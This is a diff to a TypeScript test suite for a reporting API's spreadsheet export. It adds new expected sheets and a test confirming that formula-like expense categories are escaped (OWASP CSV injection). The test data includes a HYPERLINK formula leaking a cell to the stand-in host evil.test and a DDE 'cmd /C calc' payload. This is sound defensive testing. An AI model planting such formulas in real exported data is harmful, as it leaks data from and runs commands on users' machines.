@@ -93,6 +93,9 @@ describe('GET /reports/detailed', () => {
         { _id: acme.sales[0].id, name: acme.sales[0].name },
         { _id: acme.sales[1].id, name: acme.sales[1].name },
       ],
+      // their figures: deal-reports.spec.ts
+      lostReasons: expect.any(Array),
+      stageDays: expect.any(Array),
     });
   });
 
@@ -236,7 +239,7 @@ describe('GET /reports/export', () => {
     // 1 March 2026 (10:00 in Cairo) is the test clock's day
     expect(res.headers.get('content-disposition')).toBe('attachment; filename="Report_2026-03-01.xlsx"');
     const { names, rows } = sheets(body);
-    expect(names).toEqual(['KPIs', 'Pipeline', 'Monthly Revenue', 'Expenses by Category']);
+    expect(names).toEqual(['KPIs', 'Pipeline', 'Monthly Revenue', 'Expenses by Category', 'Lost Reasons', 'Days per Stage']);
     const [kpis, pipeline, monthly, expenses] = rows;
     const k = detailed.kpis;
     expect(kpis).toEqual([
@@ -269,7 +272,7 @@ describe('GET /reports/export', () => {
       const { res, body } = await download(`?assignedTo=${acme.sales[0].id}`);
       expect(res.status).toBe(200);
       const { names, rows } = sheets(body);
-      expect(names).toEqual(['الأرقام الرئيسية', 'المسار', 'الإيرادات الشهرية', 'المصروفات حسب الفئة']);
+      expect(names).toEqual(['الأرقام الرئيسية', 'المسار', 'الإيرادات الشهرية', 'المصروفات حسب الفئة', 'أسباب الخسارة', 'الأيام في كل مرحلة']);
       expect(rows[0][0]).toEqual(['المؤشر', 'القيمة']);
       expect(rows[0][1]).toEqual(['عملاء محتملون جدد', detailed.kpis.leads]);
       expect(rows[0][3]).toEqual(['إيرادات المبيعات', detailed.kpis.salesAmount]);
@@ -293,6 +296,36 @@ describe('GET /reports/export', () => {
 
   it('is for admins only', async () => {
     expect((await download('', 'sales1')).res.status).toBe(403);
+  });
+
+  it("writes a category typed as a formula as text starting with ', the amounts as numbers (OWASP CSV injection)", async () => {
+    // a company of its own, so the other tests' figures stay as they are
+    const initech = await seedCompany(t, 'initech-export', { sales: 0 });
+    const as = await signIn(t, initech.admin.email);
+    const categories = ['=HYPERLINK("http://evil.test/?leak="&B2,"Invoice")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3', '+1+1', 'Ads'];
+    for (const [i, category] of categories.entries()) {
+      const res = await t.api.post('/expenses', { title: `E${i}`, amount: 10 * (i + 1), category, date: '2026-01-10' }, { token: as });
+      expect(res.status, JSON.stringify(res.body)).toBe(201);
+    }
+    const res = await fetch(`${t.url}/api/reports/export?from=2026-01-01&to=2026-01-31`, { headers: { authorization: `Bearer ${as}` } });
+    expect(res.status).toBe(200);
+    const book = XLSX.read(Buffer.from(await res.arrayBuffer()), { type: 'buffer', cellFormula: true });
+    const sheet = book.Sheets['Expenses by Category'];
+    const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')) as [string, XLSX.CellObject][];
+    expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([]);
+    const rows = XLSX.utils.sheet_to_json<[string, number]>(sheet, { header: 1, raw: true }).slice(1);
+    expect(new Map(rows)).toEqual(
+      new Map([
+        [`'${categories[0]}`, 10],
+        [`'${categories[1]}`, 20],
+        ["'-2+3", 30],
+        ["'+1+1", 40],
+        ['Ads', 50],
+      ]),
+    );
+    // every amount a number cell, the KPIs too
+    for (const r of [2, 3, 4, 5, 6]) expect(sheet[`B${r}`].t).toBe('n');
+    expect(book.Sheets.KPIs.B5).toMatchObject({ t: 'n', v: 150 });
   });
 
   it("never exports another company's figures", async () => {
